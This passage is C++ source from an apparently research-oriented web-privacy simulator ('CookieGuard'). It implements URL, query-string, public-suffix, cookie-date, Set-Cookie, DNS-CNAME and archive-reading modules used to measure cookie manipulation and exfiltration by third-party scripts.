  return out;
}

bool same_site(const Url& a, const Url& b) {
  return cg::net::same_site(a.host(), b.host());
}

}  // namespace cg::net
