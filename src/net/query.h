// Query-string codec.
//
// Exfiltration detection (paper §4.3) extracts candidate identifiers from
// "the query strings of all outbound URLs initiated by third-party scripts";
// this module provides the parsing half of that pipeline.
#pragma once

#include <string>
#include <string_view>
#include <utility>
#include <vector>

namespace cg::net {

struct QueryParam {
  std::string key;
  std::string value;
  friend bool operator==(const QueryParam&, const QueryParam&) = default;
};

/// Parses "a=1&b=two" into decoded key/value pairs. Keys without '=' yield
/// an empty value; empty segments are skipped.
std::vector<QueryParam> parse_query(std::string_view query);

/// Serialises pairs back into a percent-encoded query string.
std::string build_query(const std::vector<QueryParam>& params);

/// Returns the first value for `key`, or empty string.
std::string query_value(const std::vector<QueryParam>& params,
                        std::string_view key);

}  // namespace cg::net
