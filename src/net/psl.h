// Minimal embedded public-suffix list and eTLD+1 ("registrable domain")
// computation.
//
// The paper attributes every script and cookie to a domain at eTLD+1
// granularity ("we log ... the ETLD+1 of the script or server that created
// it", §6.1). A full Mozilla PSL is ~9k rules; the embedded subset here
// covers every suffix that occurs in the synthetic corpus plus the common
// multi-label suffixes needed for correctness tests (co.uk, com.au,
// github.io, ...). Unknown TLDs fall back to the last label, matching PSL
// semantics ("If no rules match, the prevailing rule is '*'").
#pragma once

#include <string>
#include <string_view>

namespace cg::net {

/// True if `host` is exactly a public suffix (e.g. "com", "co.uk").
bool is_public_suffix(std::string_view host);

/// Returns the registrable domain (eTLD+1) of `host`, lower-cased.
///
/// Examples:
///   etld_plus_one("www.example.co.uk")     == "example.co.uk"
///   etld_plus_one("cdn.shopifycloud.com")  == "shopifycloud.com"
///   etld_plus_one("example.com")           == "example.com"
///   etld_plus_one("com")                   == ""   (a bare suffix has no +1)
///   etld_plus_one("127.0.0.1")             == "127.0.0.1" (IP literals)
std::string etld_plus_one(std::string_view host);

/// True if both hosts share the same registrable domain. The paper's
/// "cross-domain" definition compares eTLD+1, not full origins (§3, fn. 1).
bool same_site(std::string_view host_a, std::string_view host_b);

/// True iff `host` equals `domain` or is a subdomain of it
/// (RFC 6265 §5.1.3 domain-matching, for host-vs-cookie-domain checks).
bool domain_matches(std::string_view host, std::string_view domain);

}  // namespace cg::net
