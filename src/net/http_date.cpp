#include "net/http_date.h"

#include <array>
#include <cctype>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <vector>

namespace cg::net {
namespace {

constexpr std::array<std::string_view, 12> kMonths = {
    "jan", "feb", "mar", "apr", "may", "jun",
    "jul", "aug", "sep", "oct", "nov", "dec"};

constexpr std::array<std::string_view, 7> kWeekdays = {
    "Thu", "Fri", "Sat", "Sun", "Mon", "Tue", "Wed"};  // epoch was a Thursday

// Days since 1970-01-01 for a civil date (Howard Hinnant's algorithm).
long long days_from_civil(int y, int m, int d) {
  y -= m <= 2;
  const long long era = (y >= 0 ? y : y - 399) / 400;
  const unsigned yoe = static_cast<unsigned>(y - era * 400);
  const unsigned doy =
      static_cast<unsigned>((153 * (m + (m > 2 ? -3 : 9)) + 2) / 5 + d - 1);
  const unsigned doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
  return era * 146097 + static_cast<long long>(doe) - 719468;
}

// Inverse of days_from_civil.
void civil_from_days(long long z, int& y, int& m, int& d) {
  z += 719468;
  const long long era = (z >= 0 ? z : z - 146096) / 146097;
  const unsigned doe = static_cast<unsigned>(z - era * 146097);
  const unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
  const long long yy = static_cast<long long>(yoe) + era * 400;
  const unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
  const unsigned mp = (5 * doy + 2) / 153;
  d = static_cast<int>(doy - (153 * mp + 2) / 5 + 1);
  m = static_cast<int>(mp + (mp < 10 ? 3 : -9));
  y = static_cast<int>(yy + (m <= 2));
}

bool is_delimiter(char c) {
  // RFC 6265 §5.1.1 delimiter set.
  const auto u = static_cast<unsigned char>(c);
  return c == 0x09 || (u >= 0x20 && u <= 0x2F) || (u >= 0x3B && u <= 0x40) ||
         (u >= 0x5B && u <= 0x60) || (u >= 0x7B && u <= 0x7E);
}

struct TimeFields {
  int hour = -1, minute = -1, second = -1;
};

bool parse_time_token(std::string_view token, TimeFields& out) {
  int h = 0, m = 0, s = 0;
  int consumed = 0;
  if (std::sscanf(std::string(token).c_str(), "%2d:%2d:%2d%n", &h, &m, &s,
                  &consumed) == 3 &&
      consumed >= 5) {
    out.hour = h;
    out.minute = m;
    out.second = s;
    return true;
  }
  return false;
}

std::optional<int> parse_leading_digits(std::string_view token, int min_len,
                                        int max_len) {
  int len = 0;
  int value = 0;
  while (len < static_cast<int>(token.size()) && len < max_len &&
         std::isdigit(static_cast<unsigned char>(token[len]))) {
    value = value * 10 + (token[len] - '0');
    ++len;
  }
  if (len < min_len) return std::nullopt;
  // RFC 6265: non-digit trailing characters are ignored ("94 GMT" cases are
  // handled by tokenisation; "21-Jun" style handled by the caller).
  return value;
}

}  // namespace

std::optional<TimeMillis> parse_cookie_date(std::string_view s) {
  std::vector<std::string_view> tokens;
  std::size_t i = 0;
  while (i < s.size()) {
    while (i < s.size() && is_delimiter(s[i]) && s[i] != ':') ++i;
    std::size_t start = i;
    while (i < s.size() && (!is_delimiter(s[i]) || s[i] == ':')) ++i;
    if (i > start) tokens.push_back(s.substr(start, i - start));
  }

  TimeFields time;
  int day = -1, month = -1, year = -1;
  for (const auto token : tokens) {
    if (time.hour < 0 && token.find(':') != std::string_view::npos &&
        parse_time_token(token, time)) {
      continue;
    }
    if (month < 0 && token.size() >= 3) {
      std::string lower3;
      for (int k = 0; k < 3; ++k) {
        lower3.push_back(static_cast<char>(
            std::tolower(static_cast<unsigned char>(token[k]))));
      }
      bool matched = false;
      for (std::size_t m = 0; m < kMonths.size(); ++m) {
        if (kMonths[m] == lower3) {
          month = static_cast<int>(m) + 1;
          matched = true;
          break;
        }
      }
      if (matched) continue;
    }
    if (day < 0) {
      if (auto v = parse_leading_digits(token, 1, 2);
          v && *v >= 1 && *v <= 31) {
        day = *v;
        continue;
      }
    }
    if (year < 0) {
      if (auto v = parse_leading_digits(token, 2, 4)) {
        year = *v;
        continue;
      }
    }
  }

  if (day < 0 || month < 0 || year < 0 || time.hour < 0) return std::nullopt;
  // Two-digit year mapping per RFC 6265.
  if (year >= 70 && year <= 99) year += 1900;
  if (year >= 0 && year <= 69) year += 2000;
  if (year < 1601 || time.hour > 23 || time.minute > 59 || time.second > 59) {
    return std::nullopt;
  }

  const long long days = days_from_civil(year, month, day);
  const long long secs =
      days * 86400LL + time.hour * 3600LL + time.minute * 60LL + time.second;
  return secs * 1000;
}

std::string format_http_date(TimeMillis t) {
  long long secs = t / 1000;
  long long days = secs / 86400;
  long long rem = secs % 86400;
  if (rem < 0) {
    rem += 86400;
    days -= 1;
  }
  int y = 0, m = 0, d = 0;
  civil_from_days(days, y, m, d);
  const int hour = static_cast<int>(rem / 3600);
  const int minute = static_cast<int>((rem % 3600) / 60);
  const int second = static_cast<int>(rem % 60);
  // days_from_civil(1970,1,1)==0 was a Thursday.
  long long wd = days % 7;
  if (wd < 0) wd += 7;

  char buf[40];
  std::string mon(kMonths[m - 1]);
  mon[0] = static_cast<char>(std::toupper(static_cast<unsigned char>(mon[0])));
  std::snprintf(buf, sizeof(buf), "%s, %02d %s %04d %02d:%02d:%02d GMT",
                std::string(kWeekdays[wd]).c_str(), d, mon.c_str(), y, hour,
                minute, second);
  return buf;
}

}  // namespace cg::net
