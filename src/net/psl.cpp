#include "net/psl.h"

#include <algorithm>
#include <array>
#include <cctype>

namespace cg::net {
namespace {

// Embedded public-suffix subset. Sorted not required; looked up via linear
// scan over a small array (the hot path caches eTLD+1 per URL elsewhere).
constexpr std::array<std::string_view, 58> kSuffixes = {
    // Generic TLDs used throughout the corpus.
    "com", "org", "net", "io", "co", "ai", "de", "fr", "jp", "ru", "uk",
    "us", "eu", "info", "biz", "tv", "me", "app", "dev", "cloud", "media",
    "agency", "online", "shop", "store", "site", "xyz", "news", "blog",
    "edu", "gov", "mil", "int", "ac",
    // Multi-label public suffixes.
    "co.uk", "org.uk", "ac.uk", "gov.uk", "co.jp", "ne.jp", "or.jp",
    "com.au", "net.au", "org.au", "com.br", "com.cn", "com.tr", "co.in",
    "co.kr", "com.mx", "co.za",
    // Private-section suffixes (sites hosted on shared platforms).
    "github.io", "gitlab.io", "netlify.app", "herokuapp.com",
    "blogspot.com", "myshopify.com", "amazonaws.com",
};

bool is_ip_literal(std::string_view host) {
  return !host.empty() &&
         host.find_first_not_of("0123456789.") == std::string_view::npos &&
         std::count(host.begin(), host.end(), '.') == 3;
}

std::string to_lower(std::string_view s) {
  std::string out(s);
  std::transform(out.begin(), out.end(), out.begin(), [](unsigned char c) {
    return static_cast<char>(std::tolower(c));
  });
  return out;
}

// Returns the length (in bytes) of the public suffix of `host`, or 0 if none.
std::size_t suffix_length(std::string_view host) {
  std::size_t best = 0;
  for (const auto suffix : kSuffixes) {
    if (host.size() == suffix.size() && host == suffix) {
      best = std::max(best, suffix.size());
    } else if (host.size() > suffix.size() &&
               host.ends_with(suffix) &&
               host[host.size() - suffix.size() - 1] == '.') {
      best = std::max(best, suffix.size());
    }
  }
  if (best == 0) {
    // PSL fallback rule "*": the last label is a public suffix.
    const auto dot = host.rfind('.');
    best = (dot == std::string_view::npos) ? host.size() : host.size() - dot - 1;
  }
  return best;
}

}  // namespace

bool is_public_suffix(std::string_view host) {
  const std::string lower = to_lower(host);
  return !lower.empty() && suffix_length(lower) == lower.size();
}

std::string etld_plus_one(std::string_view host) {
  std::string lower = to_lower(host);
  while (!lower.empty() && lower.back() == '.') lower.pop_back();
  if (lower.empty()) return {};
  if (is_ip_literal(lower)) return lower;

  const std::size_t suffix_len = suffix_length(lower);
  if (suffix_len >= lower.size()) return {};  // bare public suffix

  // Strip "<suffix>" plus the preceding dot, then take the last label of
  // what remains as the "+1".
  const std::string_view rest =
      std::string_view(lower).substr(0, lower.size() - suffix_len - 1);
  const auto dot = rest.rfind('.');
  const std::size_t start = (dot == std::string_view::npos) ? 0 : dot + 1;
  return lower.substr(start);
}

bool same_site(std::string_view host_a, std::string_view host_b) {
  const std::string a = etld_plus_one(host_a);
  return !a.empty() && a == etld_plus_one(host_b);
}

bool domain_matches(std::string_view host, std::string_view domain) {
  const std::string h = to_lower(host);
  std::string d = to_lower(domain);
  if (!d.empty() && d.front() == '.') d.erase(d.begin());
  if (h == d) return true;
  return h.size() > d.size() && h.ends_with(d) &&
         h[h.size() - d.size() - 1] == '.' && !is_ip_literal(h);
}

}  // namespace cg::net
