// URL parsing and serialisation.
//
// A pragmatic subset of the WHATWG URL model sufficient for the simulator:
// scheme://host[:port]/path[?query][#fragment]. Origins and registrable
// domains (eTLD+1) derive from here; every script, request and cookie in the
// reproduction is attributed through this type.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>

namespace cg::net {

class Url {
 public:
  Url() = default;

  /// Parses an absolute URL. Returns nullopt when there is no scheme/host.
  static std::optional<Url> parse(std::string_view input);

  /// Parses, aborting the program on failure. For compile-time-known URLs in
  /// catalogs and tests.
  static Url must_parse(std::string_view input);

  /// Resolves `relative` against this URL (subset: absolute URLs pass
  /// through; "/path" replaces the path; "name" resolves against the
  /// current directory; "?q" replaces the query).
  Url resolve(std::string_view relative) const;

  const std::string& scheme() const { return scheme_; }
  const std::string& host() const { return host_; }
  std::uint16_t port() const { return port_; }
  /// Path always begins with '/' for hierarchical URLs.
  const std::string& path() const { return path_; }
  const std::string& query() const { return query_; }
  const std::string& fragment() const { return fragment_; }

  bool is_secure() const { return scheme_ == "https" || scheme_ == "wss"; }

  /// "scheme://host[:port]" with the port omitted when default.
  std::string origin() const;

  /// Registrable domain (eTLD+1) of the host; empty for bare suffixes.
  std::string site() const;

  /// Default path for a cookie set on this URL (RFC 6265 §5.1.4).
  std::string default_cookie_path() const;

  /// Full serialisation.
  std::string spec() const;

  friend bool operator==(const Url&, const Url&) = default;

 private:
  std::string scheme_;
  std::string host_;
  std::uint16_t port_ = 0;
  std::string path_ = "/";
  std::string query_;
  std::string fragment_;
};

/// True when the two URLs' hosts share a registrable domain. This is the
/// paper's notion of "same domain" for scripts (§3 footnote 1).
bool same_site(const Url& a, const Url& b);

std::uint16_t default_port_for_scheme(std::string_view scheme);

}  // namespace cg::net
