// Percent-encoding (RFC 3986) helpers used by URL and query-string handling.
#pragma once

#include <string>
#include <string_view>

namespace cg::net {

/// Percent-encodes every byte outside the RFC 3986 "unreserved" set
/// (ALPHA / DIGIT / "-" / "." / "_" / "~").
std::string percent_encode(std::string_view input);

/// Decodes %XX escapes; malformed escapes are passed through verbatim.
/// '+' is NOT treated as space (use `form_decode` for form data).
std::string percent_decode(std::string_view input);

/// application/x-www-form-urlencoded decode: '+' becomes ' ', then %XX.
std::string form_decode(std::string_view input);

}  // namespace cg::net
