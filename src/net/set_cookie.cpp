#include "net/set_cookie.h"

#include <algorithm>
#include <cctype>
#include <cstdlib>

#include "net/http_date.h"

namespace cg::net {
namespace {

std::string_view trim(std::string_view s) {
  while (!s.empty() && (s.front() == ' ' || s.front() == '\t')) {
    s.remove_prefix(1);
  }
  while (!s.empty() && (s.back() == ' ' || s.back() == '\t')) {
    s.remove_suffix(1);
  }
  return s;
}

std::string ascii_lower(std::string_view s) {
  std::string out(s);
  std::transform(out.begin(), out.end(), out.begin(), [](unsigned char c) {
    return static_cast<char>(std::tolower(c));
  });
  return out;
}

}  // namespace

std::string_view to_string(SameSite s) {
  switch (s) {
    case SameSite::kUnspecified:
      return "Unspecified";
    case SameSite::kNone:
      return "None";
    case SameSite::kLax:
      return "Lax";
    case SameSite::kStrict:
      return "Strict";
  }
  return "Unspecified";
}

std::optional<ParsedSetCookie> parse_set_cookie(std::string_view header) {
  // Split off the name-value pair from the attributes.
  const auto semi = header.find(';');
  std::string_view pair = (semi == std::string_view::npos)
                              ? header
                              : header.substr(0, semi);
  std::string_view attrs = (semi == std::string_view::npos)
                               ? std::string_view{}
                               : header.substr(semi + 1);

  ParsedSetCookie out;
  const auto eq = pair.find('=');
  if (eq == std::string_view::npos) {
    // "flag" style header: treated as a cookie with empty name.
    out.value = std::string(trim(pair));
    if (out.value.empty()) return std::nullopt;
  } else {
    out.name = std::string(trim(pair.substr(0, eq)));
    out.value = std::string(trim(pair.substr(eq + 1)));
    if (out.name.empty() && out.value.empty()) return std::nullopt;
  }

  while (!attrs.empty()) {
    auto next = attrs.find(';');
    std::string_view av =
        (next == std::string_view::npos) ? attrs : attrs.substr(0, next);
    attrs = (next == std::string_view::npos) ? std::string_view{}
                                             : attrs.substr(next + 1);
    av = trim(av);
    if (av.empty()) continue;

    std::string_view attr_name = av;
    std::string_view attr_value;
    if (const auto aeq = av.find('='); aeq != std::string_view::npos) {
      attr_name = trim(av.substr(0, aeq));
      attr_value = trim(av.substr(aeq + 1));
    }
    const std::string lower = ascii_lower(attr_name);

    if (lower == "domain") {
      std::string d = ascii_lower(attr_value);
      if (!d.empty() && d.front() == '.') d.erase(d.begin());
      out.domain = d;
    } else if (lower == "path") {
      out.path = std::string(attr_value);
      if (out.path.empty() || out.path[0] != '/') out.path.clear();
    } else if (lower == "expires") {
      if (auto t = parse_cookie_date(attr_value)) out.expires = *t;
    } else if (lower == "max-age") {
      const std::string v(attr_value);
      char* end = nullptr;
      const long long secs = std::strtoll(v.c_str(), &end, 10);
      if (end != v.c_str() && *end == '\0') {
        out.max_age_ms = secs * 1000;
      }
    } else if (lower == "secure") {
      out.secure = true;
    } else if (lower == "httponly") {
      out.http_only = true;
    } else if (lower == "partitioned") {
      out.partitioned = true;
    } else if (lower == "samesite") {
      const std::string v = ascii_lower(attr_value);
      if (v == "none") {
        out.same_site = SameSite::kNone;
      } else if (v == "lax") {
        out.same_site = SameSite::kLax;
      } else if (v == "strict") {
        out.same_site = SameSite::kStrict;
      }
    }
  }
  return out;
}

std::string serialize_set_cookie(const ParsedSetCookie& cookie) {
  std::string out = cookie.name;
  if (!cookie.name.empty() || !cookie.value.empty()) out += "=";
  out += cookie.value;
  if (!cookie.domain.empty()) {
    out += "; Domain=";
    out += cookie.domain;
  }
  if (!cookie.path.empty()) {
    out += "; Path=";
    out += cookie.path;
  }
  if (cookie.expires) {
    out += "; Expires=";
    out += format_http_date(*cookie.expires);
  }
  if (cookie.max_age_ms) {
    out += "; Max-Age=";
    out += std::to_string(*cookie.max_age_ms / 1000);
  }
  if (cookie.secure) out += "; Secure";
  if (cookie.http_only) out += "; HttpOnly";
  if (cookie.partitioned) out += "; Partitioned";
  if (cookie.same_site != SameSite::kUnspecified) {
    out += "; SameSite=";
    out += to_string(cookie.same_site);
  }
  return out;
}

}  // namespace cg::net
