// Cookie date parsing and formatting (RFC 6265 §5.1.1 / RFC 1123).
//
// Cookie deletion on the real web is "set the cookie with Expires in the
// past" — consent managers in the paper delete `_fbp`/`_uetvid` exactly this
// way — so faithful Expires handling is load-bearing for manipulation
// detection.
#pragma once

#include <optional>
#include <string>
#include <string_view>

#include "net/clock.h"

namespace cg::net {

/// Parses a cookie-date per the RFC 6265 §5.1.1 tolerant algorithm
/// (e.g. "Wed, 09 Jun 2021 10:18:14 GMT", "09-Jun-21 10:18:14").
/// Returns milliseconds since the Unix epoch, or nullopt on failure.
std::optional<TimeMillis> parse_cookie_date(std::string_view s);

/// Formats as an RFC 1123 date: "Sun, 06 Nov 1994 08:49:37 GMT".
std::string format_http_date(TimeMillis t);

}  // namespace cg::net
