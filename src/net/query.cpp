#include "net/query.h"

#include "net/percent.h"

namespace cg::net {

std::vector<QueryParam> parse_query(std::string_view query) {
  std::vector<QueryParam> out;
  std::size_t pos = 0;
  while (pos <= query.size()) {
    auto amp = query.find('&', pos);
    if (amp == std::string_view::npos) amp = query.size();
    const std::string_view segment = query.substr(pos, amp - pos);
    if (!segment.empty()) {
      const auto eq = segment.find('=');
      if (eq == std::string_view::npos) {
        out.push_back({form_decode(segment), ""});
      } else {
        out.push_back({form_decode(segment.substr(0, eq)),
                       form_decode(segment.substr(eq + 1))});
      }
    }
    pos = amp + 1;
  }
  return out;
}

std::string build_query(const std::vector<QueryParam>& params) {
  std::string out;
  for (const auto& p : params) {
    if (!out.empty()) out += '&';
    out += percent_encode(p.key);
    out += '=';
    out += percent_encode(p.value);
  }
  return out;
}

std::string query_value(const std::vector<QueryParam>& params,
                        std::string_view key) {
  for (const auto& p : params) {
    if (p.key == key) return p.value;
  }
  return {};
}

}  // namespace cg::net
