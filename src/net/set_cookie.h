// Set-Cookie header parsing (RFC 6265 §5.2).
//
// The measurement extension captures "non-HttpOnly Set-Cookie values" from
// HTTP responses (paper §4.1); CookieGuard's background component records
// the setter domain of every header-set cookie (§6.2). Both paths start here.
#pragma once

#include <optional>
#include <string>
#include <string_view>

#include "net/clock.h"

namespace cg::net {

enum class SameSite { kUnspecified, kNone, kLax, kStrict };

/// A parsed Set-Cookie header, attributes normalised but not yet subjected
/// to the storage-model rules (domain-match checks etc. happen in
/// cookies::CookieJar).
struct ParsedSetCookie {
  std::string name;
  std::string value;
  std::string domain;            // lower-case, leading dot stripped; "" = host-only
  std::string path;              // "" = use default path of request URL
  std::optional<TimeMillis> expires;   // from Expires attribute
  std::optional<TimeMillis> max_age_ms;  // from Max-Age (relative, wins over Expires)
  bool secure = false;
  bool http_only = false;
  SameSite same_site = SameSite::kUnspecified;
  /// RFC6265bis / CHIPS `Partitioned` attribute: the cookie is keyed by the
  /// top-level site it was set under, not just its own domain. Only the
  /// partitioning policy layer (src/policy/) gives it meaning; the parser
  /// records it faithfully either way. CHIPS requires `Secure` alongside —
  /// enforced at storage time (cookies::CookieJar), not here, so the
  /// measurement pipeline still sees the malformed header as sent.
  bool partitioned = false;
};

/// Parses one Set-Cookie header value. Returns nullopt for unparseable
/// headers (no '=' in the name-value pair and empty name).
std::optional<ParsedSetCookie> parse_set_cookie(std::string_view header);

/// Serialises `cookie` back into a Set-Cookie header value such that
/// parse_set_cookie(serialize_set_cookie(c)) reproduces `c` exactly —
/// the round-trip contract the parser tests pin down (Expires re-emits via
/// format_http_date at millisecond-truncated-to-second precision, matching
/// what any cookie date can express).
std::string serialize_set_cookie(const ParsedSetCookie& cookie);

std::string_view to_string(SameSite s);

}  // namespace cg::net
