#include "net/dns.h"

#include <vector>

namespace cg::net {

void DnsResolver::add_cname(std::string_view host, std::string_view target) {
  cnames_.insert_or_assign(std::string(host), std::string(target));
}

void DnsResolver::inject_failure(std::string_view host, DnsStatus status) {
  failures_.insert_or_assign(std::string(host), status);
}

DnsResolution DnsResolver::resolve(std::string_view host) const {
  if (const auto failed = failures_.find(host); failed != failures_.end()) {
    return {std::string(host), failed->second};
  }

  std::string current(host);
  std::vector<std::string> visited;
  // RFC 1034 implementations bound chain length; 8 is generous.
  for (int hops = 0; hops < 8; ++hops) {
    const auto it = cnames_.find(current);
    if (it == cnames_.end()) return {std::move(current), DnsStatus::kOk};
    for (const auto& seen : visited) {
      if (seen == it->second) {
        return {std::string(host), DnsStatus::kCnameLoop};
      }
    }
    visited.push_back(current);
    if (current == it->second) {
      return {std::string(host), DnsStatus::kCnameLoop};
    }
    current = it->second;
  }
  return {std::string(host), DnsStatus::kChainTooLong};
}

std::string DnsResolver::resolve_canonical(std::string_view host) const {
  return resolve(host).canonical;
}

}  // namespace cg::net
