#include "net/dns.h"

namespace cg::net {

void DnsResolver::add_cname(std::string_view host, std::string_view target) {
  cnames_.insert_or_assign(std::string(host), std::string(target));
}

std::string DnsResolver::resolve_canonical(std::string_view host) const {
  std::string current(host);
  // RFC 1034 implementations bound chain length; 8 is generous.
  for (int hops = 0; hops < 8; ++hops) {
    const auto it = cnames_.find(current);
    if (it == cnames_.end()) return current;
    current = it->second;
  }
  return current;
}

}  // namespace cg::net
