#include "store/reader.h"

#include <algorithm>
#include <fstream>
#include <iterator>
#include <limits>
#include <utility>

#include "crypto/crc32c.h"
#include "store/delta_codec.h"
#include "store/record_codec.h"

namespace cg::store {
namespace {

std::optional<Reader> fail(Error* error, fault::ArchiveFault code,
                           std::string detail) {
  if (error != nullptr) *error = {code, std::move(detail)};
  return std::nullopt;
}

}  // namespace

std::optional<Reader> Reader::open(const std::string& path, Error* error) {
  FileSource source(path);
  return from_source(source, error);
}

std::optional<Reader> Reader::from_source(ByteSource& source, Error* error) {
  std::string bytes;
  if (const IoStatus status = source.read_all(&bytes); !status.ok()) {
    return fail(error, fault::ArchiveFault::kIoError, status.to_string());
  }
  return from_buffer(std::move(bytes), error);
}

std::optional<Reader> Reader::from_buffer(std::string bytes, Error* error) {
  const std::string header = encode_header();

  // Envelope. Magic first: "not a CGAR file" and "CGAR file cut short" are
  // different operational problems and get different taxonomy classes.
  const std::size_t magic_len = std::min(bytes.size(), std::size_t{8});
  if (std::string_view(bytes).substr(0, magic_len) !=
      std::string_view(header).substr(0, magic_len)) {
    return fail(error, fault::ArchiveFault::kBadMagic,
                "missing CGAR header magic");
  }
  if (bytes.size() < kHeaderSize + kTrailerSize) {
    return fail(error, fault::ArchiveFault::kTruncated,
                "file smaller than header + trailer");
  }
  const std::uint8_t version = static_cast<std::uint8_t>(bytes[8]);
  if (version != kFormatVersion) {
    return fail(error, fault::ArchiveFault::kVersionMismatch,
                "header declares format v" + std::to_string(version) +
                    ", reader understands v" +
                    std::to_string(kFormatVersion));
  }
  const std::string_view tail =
      std::string_view(bytes).substr(bytes.size() - kTrailerSize);
  if (tail.substr(8) != kTrailerMagic) {
    return fail(error, fault::ArchiveFault::kTruncated,
                "missing trailer magic — archive not finalised or cut short");
  }
  ByteReader trailer(tail);
  const std::uint64_t footer_offset = trailer.u64le();
  const std::uint64_t footer_end = bytes.size() - kTrailerSize;
  if (footer_offset < kHeaderSize || footer_offset >= footer_end) {
    return fail(error, fault::ArchiveFault::kCorruptIndex,
                "trailer points the footer at offset " +
                    std::to_string(footer_offset) + ", outside the file");
  }

  // Footer block.
  Error block_error;
  const auto footer = decode_block(bytes, footer_offset, &block_error);
  if (!footer) {
    if (error != nullptr) *error = block_error;
    return std::nullopt;
  }
  if (footer->type != BlockType::kFooter ||
      footer_offset + footer->total_size != footer_end) {
    return fail(error, fault::ArchiveFault::kCorruptIndex,
                "trailer does not point at the footer block");
  }

  // Footer payload.
  ByteReader fr(footer->payload);
  const auto version_byte = fr.bytes(1);
  if (fr.failed) {
    return fail(error, fault::ArchiveFault::kCorruptIndex, "empty footer");
  }
  const std::uint8_t footer_version =
      static_cast<std::uint8_t>(version_byte[0]);
  if (footer_version != version) {
    return fail(error, fault::ArchiveFault::kVersionMismatch,
                "footer declares format v" + std::to_string(footer_version) +
                    " inside a v" + std::to_string(version) +
                    " file — mixed-version archive");
  }
  Reader reader;
  reader.info_.format_version = footer_version;
  const std::uint64_t schema = fr.varint();
  if (schema > instrument::kVisitLogSchemaVersion) {
    return fail(error, fault::ArchiveFault::kSchemaMismatch,
                "records use schema v" + std::to_string(schema) +
                    ", reader understands up to v" +
                    std::to_string(instrument::kVisitLogSchemaVersion));
  }
  reader.info_.schema_version = static_cast<std::uint32_t>(schema);
  reader.info_.corpus_seed = fr.varint();
  reader.info_.fault_seed = fr.varint();
  const std::uint64_t count = fr.varint();
  if (fr.failed || count > fr.remaining()) {
    return fail(error, fault::ArchiveFault::kCorruptIndex,
                "index count exceeds footer size");
  }

  // Index: delta-decoded, then the consistency argument — entries must tile
  // [header, footer) exactly, with strictly increasing ranks.
  reader.index_.reserve(static_cast<std::size_t>(count));
  std::uint64_t rank = 0;
  std::uint64_t offset = 0;
  for (std::uint64_t i = 0; i < count; ++i) {
    const std::uint64_t rank_delta = fr.varint();
    const std::uint64_t offset_delta = fr.varint();
    const std::uint64_t length = fr.varint();
    if (fr.failed) {
      return fail(error, fault::ArchiveFault::kCorruptIndex,
                  "index entry " + std::to_string(i) + " is cut short");
    }
    if (i == 0) {
      rank = rank_delta;
      offset = offset_delta;
    } else {
      if (rank_delta == 0) {
        return fail(error, fault::ArchiveFault::kDuplicateSite,
                    "index entries " + std::to_string(i - 1) + " and " +
                        std::to_string(i) + " both claim rank " +
                        std::to_string(rank));
      }
      rank += rank_delta;
      offset += offset_delta;
    }
    if (rank > static_cast<std::uint64_t>(std::numeric_limits<int>::max()) ||
        offset >= footer_offset || length > footer_offset - offset) {
      return fail(error, fault::ArchiveFault::kCorruptIndex,
                  "index entry " + std::to_string(i) +
                      " lies outside the block stream");
    }
    reader.index_.push_back({static_cast<int>(rank), offset, length});
  }
  // Footer extension (longitudinal provenance). A footer that ends right
  // after its index is a legacy full archive and keeps the FooterInfo
  // defaults: policy none, wave 0, kind full.
  if (fr.remaining() != 0) {
    const std::uint64_t ext_version = fr.varint();
    if (fr.failed || ext_version != kFooterExtensionVersion) {
      return fail(error, fault::ArchiveFault::kVersionMismatch,
                  "footer extension v" + std::to_string(ext_version) +
                      ", reader understands v" +
                      std::to_string(kFooterExtensionVersion));
    }
    const auto policy_byte = fr.bytes(1);
    const auto kind_byte = fr.bytes(1);
    if (fr.failed) {
      return fail(error, fault::ArchiveFault::kCorruptIndex,
                  "footer extension is cut short");
    }
    const std::uint8_t policy = static_cast<std::uint8_t>(policy_byte[0]);
    if (policy > static_cast<std::uint8_t>(ArchivePolicy::kChips)) {
      return fail(error, fault::ArchiveFault::kCorruptIndex,
                  "footer records unknown policy " + std::to_string(policy));
    }
    const std::uint8_t kind = static_cast<std::uint8_t>(kind_byte[0]);
    if (kind > static_cast<std::uint8_t>(ArchiveKind::kDelta)) {
      return fail(error, fault::ArchiveFault::kCorruptIndex,
                  "footer records unknown archive kind " +
                      std::to_string(kind));
    }
    reader.info_.policy = static_cast<ArchivePolicy>(policy);
    reader.info_.kind = static_cast<ArchiveKind>(kind);
    const std::uint64_t wave = fr.varint();
    reader.info_.evolution_seed = fr.varint();
    if (fr.failed ||
        wave > std::numeric_limits<std::uint32_t>::max()) {
      return fail(error, fault::ArchiveFault::kCorruptIndex,
                  "footer extension is cut short");
    }
    reader.info_.wave = static_cast<std::uint32_t>(wave);
    if (reader.info_.kind == ArchiveKind::kDelta) {
      reader.info_.base.corpus_seed = fr.varint();
      reader.info_.base.fault_seed = fr.varint();
      reader.info_.base.evolution_seed = fr.varint();
      const auto base_policy_byte = fr.bytes(1);
      const std::uint64_t base_wave = fr.varint();
      const std::uint64_t base_sites = fr.varint();
      const std::uint32_t base_crc = fr.u32le();
      const std::uint64_t inherited_count = fr.varint();
      if (fr.failed ||
          base_wave > std::numeric_limits<std::uint32_t>::max() ||
          base_sites > std::numeric_limits<std::uint32_t>::max() ||
          inherited_count > fr.remaining()) {
        return fail(error, fault::ArchiveFault::kCorruptIndex,
                    "footer base provenance is cut short");
      }
      const std::uint8_t base_policy =
          static_cast<std::uint8_t>(base_policy_byte[0]);
      if (base_policy > static_cast<std::uint8_t>(ArchivePolicy::kChips)) {
        return fail(error, fault::ArchiveFault::kCorruptIndex,
                    "footer records unknown base policy " +
                        std::to_string(base_policy));
      }
      reader.info_.base.policy = static_cast<ArchivePolicy>(base_policy);
      reader.info_.base.wave = static_cast<std::uint32_t>(base_wave);
      reader.info_.base.site_count = static_cast<std::uint32_t>(base_sites);
      reader.info_.base.footer_crc = base_crc;
      reader.info_.inherited_ranks.reserve(
          static_cast<std::size_t>(inherited_count));
      std::uint64_t inherited_rank = 0;
      for (std::uint64_t i = 0; i < inherited_count; ++i) {
        const std::uint64_t delta = fr.varint();
        if (fr.failed) {
          return fail(error, fault::ArchiveFault::kCorruptIndex,
                      "inherited-rank list is cut short");
        }
        if (i > 0 && delta == 0) {
          return fail(error, fault::ArchiveFault::kDuplicateSite,
                      "inherited-rank list repeats rank " +
